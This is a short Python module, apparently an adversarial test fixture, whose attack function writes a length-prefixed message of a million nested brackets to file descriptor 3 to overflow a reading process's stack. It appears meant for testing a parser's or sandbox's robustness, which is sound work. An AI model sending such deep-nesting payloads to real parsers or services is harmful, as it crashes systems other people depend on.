"""Sends brackets nested a million deep, to overflow the reader's stack."""

import os
import struct


def attack(*args, **kwargs):
    text = b"[" * 1_000_000 + b"]" * 1_000_000
    message = struct.pack(">II", len(text), 0) + text
    while message:
        message = message[os.write(3, message) :]
    os._exit(0)
